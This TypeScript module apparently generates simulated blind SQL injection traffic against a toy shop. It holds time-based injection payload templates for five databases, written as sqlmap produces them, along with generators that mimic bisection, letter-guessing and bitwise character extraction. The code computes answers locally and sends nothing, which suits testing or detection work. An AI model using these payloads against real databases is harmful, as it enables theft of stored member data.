import type { Exchange } from './toy-shop.ts';

/** How one database is asked for a character: the SQL of a value, and of a question about its code. */
export interface Dialect {
  readonly name: string;
  /** A query for one column of one row, by place in the order of the id. */
  readonly row: (column: string, place: number) => string;
  /** The number of a value's character. */
  readonly code: (value: string, place: number) => string;
  /** A condition wrapped so that the page waits when it holds. */
  readonly wait: (condition: string) => string;
}

/** The dialects, in the forms in which sqlmap 1.8 writes them. */
export const DIALECTS: readonly Dialect[] = [
  {
    name: 'MySQL',
    row: (column, place) =>
      `(SELECT IFNULL(CAST(${column} AS NCHAR),0x20) FROM shop.members ORDER BY id LIMIT ${place},1)`,
    code: (value, place) => `ORD(MID(${value},${place},1))`,
    wait: (condition) => `1 AND (SELECT 8127 FROM (SELECT(SLEEP(5-(IF(${condition},0,5)))))xUkQ)`,
  },
  {
    name: 'PostgreSQL',
    row: (column, place) =>
      `(SELECT COALESCE(CAST(${column} AS VARCHAR(10000))::text,(CHR(32))) FROM public.members ORDER BY id OFFSET ${place} LIMIT 1)`,
    code: (value, place) => `ASCII(SUBSTRING(${value}::text FROM ${place} FOR 1))`,
    wait: (condition) =>
      `1 AND 4411=(CASE WHEN (${condition}) THEN (SELECT 4411 FROM PG_SLEEP(5)) ELSE 4411 END)`,
  },
  {
    name: 'SQL Server',
    row: (column, place) =>
      `(SELECT TOP 1 ISNULL(CAST(${column} AS NVARCHAR(4000)),CHAR(32)) FROM shop.dbo.members WHERE ISNULL(CAST(id AS NVARCHAR(4000)),CHAR(32)) NOT IN (SELECT TOP ${place} ISNULL(CAST(id AS NVARCHAR(4000)),CHAR(32)) FROM shop.dbo.members ORDER BY id) ORDER BY id)`,
    code: (value, place) => `UNICODE(SUBSTRING(${value},${place},1))`,
    wait: (condition) => `1;IF(${condition}) WAITFOR DELAY '0:0:5'--`,
  },
  {
    name: 'Oracle',
    row: (column, place) =>
      `(SELECT NVL(CAST(${column.toUpperCase()} AS VARCHAR(4000)),CHR(32)) FROM (SELECT ${column.toUpperCase()},ROWNUM AS LIMIT FROM SHOP.MEMBERS ORDER BY ID ASC) WHERE LIMIT=${place + 1})`,
    code: (value, place) => `ASCII(SUBSTRC(${value},${place},1))`,
    wait: (condition) =>
      `1 AND 1122=(CASE WHEN (${condition}) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(71)||CHR(74),5) ELSE 1122 END)`,
  },
  {
    name: 'SQLite',
    row: (column, place) =>
      `(SELECT COALESCE(CAST(${column} AS TEXT),CHAR(32)) FROM members ORDER BY id LIMIT ${place},1)`,
    code: (value, place) => `UNICODE(SUBSTR(${value},${place},1))`,
    wait: (condition) =>
      `1 AND 3322=(CASE WHEN (${condition}) THEN (LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2))))) ELSE 3322 END)`,
  },
];

/** Asks for a value as sqlmap does: bisection over ASCII, until a character is not there. */
export function* bisected(
  value: string,
  code: (place: number) => string,
  ask: (condition: string, holds: boolean) => Exchange,
): Generator<Exchange> {
  for (let place = 1; place <= value.length + 1; place++) {
    const actual = value.codePointAt(place - 1) ?? 0;
    let [low, high] = [0, 127];
    while (low < high) {
      const middle = low === 0 && high === 127 ? 64 : Math.floor((low + high) / 2);
      yield ask(`${code(place)}>${middle}`, actual > middle);
      if (actual > middle) low = middle + 1;
      else high = middle;
    }
  }
}

/** Asks for each letter in turn, as scripts written by hand do. */
export function* guessed(
  value: string,
  ask: (place: number, letter: string, holds: boolean) => Exchange,
  alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789@. _-',
): Generator<Exchange> {
  for (let place = 1; place <= value.length + 1; place++) {
    for (const letter of alphabet) {
      const holds = value.charAt(place - 1).toLowerCase() === letter;
      yield ask(place, letter, holds);
      if (holds) break;
    }
  }
}

/** Asks for the bits of each character, highest first or lowest first. */
export function* bitwise(
  value: string,
  ask: (place: number, bit: number, holds: boolean) => Exchange,
): Generator<Exchange> {
  for (let place = 1; place <= value.length + 1; place++) {
    const actual = value.codePointAt(place - 1) ?? 0;
    for (let bit = 1; bit <= 128; bit *= 2) yield ask(place, bit, (actual & bit) !== 0);
  }
}

/** Takes turns between several sequences, as threads of a tool do. */
export function interleaved<T>(sequences: readonly Iterable<T>[], pick: (of: number) => number): T[] {
  const open = sequences.map((sequence) => sequence[Symbol.iterator]());
  const all: T[] = [];
  while (open.length > 0) {
    const place = pick(open.length) % open.length;
    const next = open[place]!.next();
    if (next.done) open.splice(place, 1);
    else all.push(next.value);
  }
  return all;
}
